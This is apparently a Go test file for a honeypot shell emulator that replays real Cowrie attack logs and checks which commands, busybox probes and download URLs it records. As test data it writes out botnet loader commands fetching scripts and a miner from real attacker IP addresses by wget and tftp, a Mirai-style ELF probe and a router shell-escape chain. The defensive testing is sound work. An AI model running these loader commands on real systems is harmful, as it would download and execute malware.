package shell

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/session"
)

// unquoteLog decodes one quoted entry of the cowrie-emansih command files.
func unquoteLog(q string) string {
	q = strings.TrimSpace(q)
	if s, err := strconv.Unquote(q); err == nil {
		return s
	}
	q = strings.TrimSuffix(strings.TrimPrefix(q, `"`), `"`)
	return strings.NewReplacer(`\"`, `"`, `\\`, `\`).Replace(q)
}

// TestCowrieEmansihDistinct replays every distinct command of the
// cowrie-emansih honeypot log through one session each.
func TestCowrieEmansihDistinct(t *testing.T) {
	p := sharedData(t, "logs/cowrie-emansih/cowrie_cmd.uniq-counts.txt")
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var lines []string
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	total := 0
	for sc.Scan() {
		total++
		l := strings.TrimSpace(sc.Text())
		_, q, ok := strings.Cut(l, " ")
		if !ok {
			continue
		}
		cmd := unquoteLog(q)
		if c, ok := strings.CutPrefix(cmd, "CMD: "); ok {
			lines = append(lines, c)
		}
	}
	if total != 715 {
		t.Fatalf("%d distinct entries, want 715", total)
	}
	if len(lines) < 700 {
		t.Fatalf("only %d commands", len(lines))
	}
	// One long session (as one attacker would), with room for all.
	lim := session.DefaultLimits()
	lim.Commands = 100000
	lim.URLs = 100000
	lim.Files = 100000
	rec := newRecorder(t, lim)
	sh := New(Config{Arch: "arm7"}, rec)
	for _, l := range lines {
		out, exit := sh.Run(l)
		if len(out) > maxLineOutput {
			t.Fatalf("%q printed %d bytes", l, len(out))
		}
		if exit {
			sh = New(Config{Arch: "arm7"}, rec)
		}
	}
	s := rec.Snapshot()
	if len(s.Commands) < len(lines) {
		t.Errorf("%d commands recorded for %d lines", len(s.Commands), len(lines))
	}
	tokens := 0
	for _, c := range s.Commands {
		if strings.HasPrefix(c.Input, "/bin/busybox ") && len(c.Input) == len("/bin/busybox ")+5 &&
			strings.ToUpper(c.Input[13:]) == c.Input[13:] {
			if len(c.Patterns) != 1 || c.Patterns[0] != "busybox-token" {
				t.Errorf("%q patterns %v", c.Input, c.Patterns)
			}
			tokens++
		}
	}
	if tokens < 100 {
		t.Errorf("only %d busybox token probes recorded", tokens)
	}
	// URLs of the loader one-liners.
	urls := map[string]string{}
	for _, u := range s.URLs {
		urls[u.URL+" "+u.Via] = u.Target
	}
	for _, want := range []string{
		"http://51.75.191.234/sh wget", "tftp://51.75.191.234/bins.sh tftp", "tftp://51.75.191.234/.sh tftp",
		"ftp://51.75.191.234/.sh ftpget", "http://71.127.148.69/.x/1sh wget", "http://71.127.148.69/.x/3sh curl",
		"http://nasapaul.com/cnrig wget",
	} {
		if _, ok := urls[want]; !ok {
			t.Errorf("URL %s not recorded", want)
		}
	}

	// Specific answers, each in a fresh session.
	checks := []struct {
		line, want string
	}{
		{`echo -e "\x6F\x6B"`, "ok\n"},
		{`/bin/busybox echo -ne '\x45\x4c\x46'`, "ELF"},
		{`cd /tmp || cd /var/ || cd /var/run || cd /mnt || cd /root || cd /;/bin/busybox echo -ne '\x45\x4c\x46'`, "ELF"},
		{"tftp; wget; /bin/busybox VWCUN", "VWCUN: applet not found\n"},
		{"/bin/busybox REKOBOT", "REKOBOT: applet not found\n"},
		{"echo Hi | cat -n", "Hi\n"},
	}
	for _, c := range checks {
		sh := New(Config{Arch: "mips"}, nil)
		out, _ := sh.Run(c.line)
		if !bytes.HasSuffix(out, []byte(c.want)) {
			t.Errorf("%s: %q, want suffix %q", c.line, out, c.want)
		}
	}
}

// TestCowrieEmansihSessions replays the whole command log, split into
// sessions at each "enable", and checks the arch probe the Mirai-like
// sessions make: cp /bin/echo .s then dd bs=52 count=1 if=.s.
func TestCowrieEmansihSessions(t *testing.T) {
	p := sharedData(t, "logs/cowrie-emansih/cowrie_cmd.txt")
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	var sh *Shell
	var rec *session.Recorder
	probes := 0
	n := 0
	for _, l := range strings.Split(string(data), "\n") {
		cmd, ok := strings.CutPrefix(unquoteLog(l), "CMD: ")
		if !ok {
			continue
		}
		n++
		if sh == nil || cmd == "enable" {
			rec = newRecorder(t, session.Limits{})
			sh = New(Config{Arch: "mipsel"}, rec)
		}
		out, exit := sh.Run(cmd)
		if len(out) > maxLineOutput {
			t.Fatalf("%q printed %d bytes", cmd, len(out))
		}
		if strings.HasPrefix(cmd, "dd bs=52 count=1 if=.s") && sh.Cwd() == "/dev/shm" {
			probes++
			_, data, machine, ok := elfMachine(out)
			if !ok || data != 1 || machine != 8 || !bytes.Contains(out, []byte("1+0 records in")) {
				t.Fatalf("dd probe printed %q", out)
			}
			if bytes.Count(out, []byte("\x7fELF")) != 1 || len(out) < 52 {
				t.Fatalf("dd probe printed %d bytes", len(out))
			}
		}
		if exit {
			if r := sh.ExitReason(); r != ReasonExit && r != ReasonCommands {
				t.Fatalf("exit reason %q", r)
			}
			sh = nil
		}
	}
	if n < 80000 || probes < 100 {
		t.Fatalf("%d commands, %d dd probes", n, probes)
	}
	for _, f := range rec.Snapshot().Files {
		if strings.HasSuffix(f.Path, "/.s") {
			t.Errorf("a copy of the device's own /bin/echo was recorded: %+v", f)
		}
	}
}

// cowrieEvent is the part of a Cowrie JSON event the test reads.
type cowrieEvent struct {
	EventID  string `json:"eventid"`
	Session  string `json:"session"`
	Input    string `json:"input"`
	URL      string `json:"url"`
	Protocol string `json:"protocol"`
}

// TestHoneypotAISessions replays the Cowrie sessions of the honeypot-ai
// examples and checks every URL Cowrie saw downloaded is recorded.
func TestHoneypotAISessions(t *testing.T) {
	root := sharedData(t, "logs/honeypot-ai")
	files, _ := filepath.Glob(filepath.Join(root, "*", "cowrie", "*.json"))
	if len(files) == 0 {
		t.Skip("no Cowrie JSON")
	}
	type sess struct {
		inputs []string
		urls   map[string]bool
		proto  string
		dir    string
	}
	sessions := map[string]*sess{}
	var order []string
	for _, fn := range files {
		data, err := os.ReadFile(fn)
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range bytes.Split(data, []byte("\n")) {
			var e cowrieEvent
			if json.Unmarshal(line, &e) != nil || e.Session == "" {
				continue
			}
			s := sessions[e.Session]
			if s == nil {
				s = &sess{urls: map[string]bool{}, dir: filepath.Base(filepath.Dir(filepath.Dir(fn)))}
				sessions[e.Session] = s
				order = append(order, e.Session)
			}
			switch e.EventID {
			case "cowrie.session.connect":
				s.proto = e.Protocol
			case "cowrie.command.input":
				s.inputs = append(s.inputs, e.Input)
			case "cowrie.session.file_download", "cowrie.session.file_download.failed":
				if e.URL != "" {
					s.urls[e.URL] = true
				}
			}
		}
	}
	sawTelnetLoader, sawChain := false, false
	for _, id := range order {
		s := sessions[id]
		if len(s.inputs) == 0 {
			continue
		}
		rec := newRecorder(t, session.Limits{})
		sh := New(Config{Arch: "x86_64"}, rec)
		for _, in := range s.inputs {
			if _, exit := sh.Run(in); exit {
				break
			}
		}
		sh.Close()
		snap := rec.Snapshot()
		got := map[string]bool{}
		for _, u := range snap.URLs {
			got[u.URL] = true
		}
		for u := range s.urls {
			if !got[u] {
				t.Errorf("%s %s: URL %s not recorded (got %v)", s.dir, id, u, keys(got))
			}
		}
		if s.proto == "telnet" && got["http://87.242.89.170/ISIS.sh"] {
			sawTelnetLoader = true
			if !got["tftp://87.242.89.170/tftp1.sh"] {
				t.Errorf("telnet loader: tftp URL missing: %v", keys(got))
			}
			if !hasCommand(snap.Commands, "wget http://87.242.89.170/ISIS.sh", "wget-http") ||
				!hasCommand(snap.Commands, "tftp -g 87.242.89.170 -r tftp1.sh", "tftp-get") {
				t.Errorf("telnet loader commands: %+v", snap.Commands)
			}
		}
		if len(s.inputs) > 4 && s.inputs[0] == "enable" && s.inputs[1] == "system" && s.inputs[2] == "shell" && s.inputs[3] == "sh" {
			sawChain = true
			for _, c := range snap.Commands[:5] {
				if !c.Known {
					t.Errorf("escape chain command %q not known", c.Input)
				}
			}
			if !hasCommand(snap.Commands, `echo "senpai" > rootsenpai`, "") {
				t.Errorf("chain session commands: %+v", snap.Commands)
			}
		}
	}
	if !sawTelnetLoader || !sawChain {
		t.Errorf("telnet loader seen %v, escape chain seen %v", sawTelnetLoader, sawChain)
	}
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
